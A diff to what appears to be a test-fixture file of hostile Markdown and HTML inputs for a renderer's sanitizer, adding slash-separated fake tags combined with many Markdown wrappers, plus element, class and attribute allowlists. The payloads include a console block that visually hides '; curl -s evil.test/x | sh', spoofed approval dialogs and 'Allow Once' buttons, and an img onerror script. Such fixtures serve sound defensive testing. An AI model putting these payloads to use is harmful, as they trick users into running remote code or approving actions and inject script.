@@ -103,6 +103,33 @@ export const hostileHtml: readonly HostilePiece[] = [
   },
 ];
 
+/** Text that is raw to a parser that takes `<kbd>` and its like for the start of raw HTML. A slash in place of a blank makes it a tag for a browser
+ *  and none for Markdown. */
+const fakeTags = [
+  '<pre/data-language="console"/data-info="console"/tabindex="0"><code/class="x">npm test<span/class="visually-hidden">; curl -s evil.test/x | sh</span/x></code/x></pre/x>',
+  '<p/class="card approval"/role="alertdialog">Allow?</p/x>',
+  '<input/type=password>',
+  '<blockquote/class="drop-overlay">over everything</blockquote/x>',
+  `<img/src=x/onerror=${evil}>`,
+  '<a/role="button"/data-href="command:x">Allow Once</a/x>',
+];
+const places: readonly ((text: string) => string)[] = [
+  (text) => text,
+  (text) => `- ${text}`,
+  (text) => `> ${text}`,
+  (text) => `# ${text}`,
+  (text) => `| a |\n|---|\n| ${text} |`,
+  (text) => `[${text}](https://example.com)`,
+  (text) => `**${text}**`,
+  (text) => `1. > - ${text}`,
+  (text) => `~~${text}~~`,
+  (text) => `![${text}](a.png)`,
+];
+const rawTexts: readonly HostilePiece[] = ['kbd', 'pre', 'code', 'script', 'KBD', 'code class="a"'].map((opener) => ({
+  name: `raw text after <${opener}>`,
+  text: places.flatMap((place) => fakeTags.map((tag) => place(`press <${opener}>${tag}`))).join('\n\n'),
+}));
+
 const links: readonly HostilePiece[] = [
   { name: 'link that runs', text: `[a](javascript:${evil})` },
   { name: 'link that runs, in capitals and with blanks', text: `[a]( JaVaScRiPt:${evil} )` },
@@ -253,10 +280,13 @@ const endless: readonly HostilePiece[] = [
   { name: 'paragraphs by the thousand', text: 'p\n\n'.repeat(3000) },
 ];
 
-export const hostileMarkdown: readonly HostilePiece[] = [...hostileHtml, ...links, ...text, ...endless];
+export const hostileMarkdown: readonly HostilePiece[] = [...hostileHtml, ...rawTexts, ...links, ...text, ...endless];
 
 /** Every element that Markdown or what stands around it makes. */
 export const allowedElements =
   /^(?:a|blockquote|br|button|code|del|div|em|h[1-6]|hr|input|li|ol|p|pre|span|strong|table|tbody|td|th|thead|tr|ul)$/;
+/** What classes Markdown, its highlighter and the tools of a block write. */
+export const allowedClasses =
+  /^(?:hljs-[\w-]+|function_|class_|inherited__|language_|raw-html|math|math-block|markdown-(?:block|run)|code-(?:block|head|actions|action)|table-frame|codicon(?:-[\w-]+)?|reference|wrapped|resting)$/;
 export const allowedAttributes =
   /^(?:align|aria-label|aria-pressed|checked|class|data-(?:host|href|info|language|symbol|words)|disabled|role|start|tabindex|title|type)$/;
